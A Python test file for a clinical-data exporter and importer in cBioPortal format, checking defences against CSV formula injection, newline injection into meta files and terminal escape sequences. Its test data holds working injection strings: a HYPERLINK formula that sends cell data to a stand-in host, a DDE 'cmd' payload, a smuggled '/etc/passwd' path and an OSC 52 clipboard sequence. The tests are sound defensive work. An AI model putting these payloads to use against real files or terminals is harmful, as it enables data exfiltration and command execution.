    write_study([load_case(tmp_path / "example.yaml")], tmp_path / "study")
    rows = (tmp_path / "study" / "data_timeline_treatment.txt").read_text().splitlines()
    header, row = rows[0].split(TAB), dict(zip(rows[0].split(TAB), rows[1].split(TAB)))
    assert header[:4] == ["PATIENT_ID", "START_DATE", "STOP_DATE", "EVENT_TYPE"]
    assert {c: row[c] for c in ("LABEL", "QUOTE", "NOTE", "DOSE", "REGIMEN", "FLAG_TEXT", "START_DATE")} == {
        "LABEL": "'=HYPERLINK(\"http://x.example/?\"&A1)", "QUOTE": "'+cmd|' /C calc'!A0", "NOTE": "'@SUM(1)",
        "DOSE": "'-5 mg", "REGIMEN": "''=already quoted", "FLAG_TEXT": "'-x", "START_DATE": "0"}
    assert "CASE_TITLE" in (tmp_path / "study" / "data_clinical_patient.txt").read_text()
    assert "\t'=1+1 case\t" in (tmp_path / "study" / "data_clinical_patient.txt").read_text()
    document = read_study(tmp_path / "study").cases["example"]
    event = next(e for e in document["events"] if e["kind"] == "chemotherapy")
    assert {k: event[k] for k in texts} == texts
    assert event["attributes"]["FLAG_TEXT"] == "-x"
    assert document["title"] == "=1+1 case"


def test_attribute_names_that_a_spreadsheet_would_run_go_out_quoted_in_the_headers_and_come_back_as_written(tmp_path):
    """OWASP CSV injection: a column named after an attribute is a cell of the header row to a spreadsheet; a name
    starting with = + - @ gets the leading quote a text cell gets (in the '#' display-name lines too), and the
    reader takes exactly that quote off again."""
    import yaml

    from conftest import make_case, make_event

    document = make_case(make_event(kind="chemotherapy", drug=None, regimen="FOLFOX",
                                    attributes={"=HYPERLINK(\"http://x.example/\")": "a", "-Dose note": "b",
                                                "'@already": "c"}))
    document["patient"]["attributes"] = {"+SITE": "lung", "@ECOG": "1"}
    document["diagnoses"][0]["date"] = "2021-09-01"
    (tmp_path / "example.yaml").write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
    write_study([load_case(tmp_path / "example.yaml")], tmp_path / "study")
    header = (tmp_path / "study" / "data_timeline_treatment.txt").read_text().splitlines()[0].split(TAB)
    assert {"'=HYPERLINK(\"http://x.example/\")", "'-Dose note", "''@already"} <= set(header)
    assert not [name for name in header if name[:1] in "=+-@"]
    clinical = (tmp_path / "study" / "data_clinical_patient.txt").read_text().splitlines()
    names, columns = clinical[0].split(TAB), clinical[4].split(TAB)
    assert {"'+SITE", "'@ECOG"} <= set(columns) and {"'+Site", "'@Ecog"} <= set(names)
    assert not [cell for line in clinical[:5] for cell in line.split(TAB) if cell[:1] in "=+-@"]
    back = read_study(tmp_path / "study").cases["example"]
    event = next(e for e in back["events"] if e["kind"] == "chemotherapy")
    assert event["attributes"] == {"=HYPERLINK(\"http://x.example/\")": "a", "-Dose note": "b", "'@already": "c"}
    assert back["patient"]["attributes"] == {"+SITE": "lung", "@ECOG": "1"}


def test_a_title_with_a_line_break_cannot_add_a_line_to_a_meta_file():
    import io
    import zipfile
    from dataclasses import replace

    from components.exports import cbioportal_zip

    timeline = load_case(CASE_FILES[0])
    timeline = replace(timeline, case=timeline.case.model_copy(update={"title": "T\ndata_filename: /etc/passwd"}))
    with zipfile.ZipFile(io.BytesIO(cbioportal_zip(timeline))) as archive:
        meta = archive.read(next(n for n in archive.namelist() if n.endswith("meta_study.txt"))).decode()
    assert "name: T data_filename: /etc/passwd\n" in meta and "\ndata_filename" not in meta


def test_the_importer_prints_no_nul_and_no_clipboard_sequence(tmp_path, capsys):
    """Regression: a NUL in a patient id and an OSC 52 sequence (writes the terminal's clipboard) in a cell were
    printed raw."""
    text = (STUDY / "data_timeline_treatment.txt").read_text(encoding="utf-8")
    text = text.replace("Platinum doublet", "Platinum\x1b]52;c;cHduZWQ=\x07 doublet").replace("LUNG-002\t",
                                                                                          "LUNG\x00-002\t", 1)
    folder = copy_study(tmp_path, data_timeline_treatment=text)
    assert main(["import-cbioportal", str(folder), "--out", str(tmp_path / "cases")]) == 1
    err = capsys.readouterr().err
    assert "\x00" not in err and "\x1b" not in err and "\x07" not in err
    assert err.startswith("data_timeline_treatment.txt:5: PATIENT_ID: 'LUNG\\0-002' has a character other than "
                          "letters, digits, '.', '_' and '-'.")
    assert re.search(r"lung-001\.yaml:\d+:\d+: The text holds the control character U\+001B \(ESC, which starts "
                     r"terminal commands\), written as an escape \(\\e\) in double quotes\.", err)
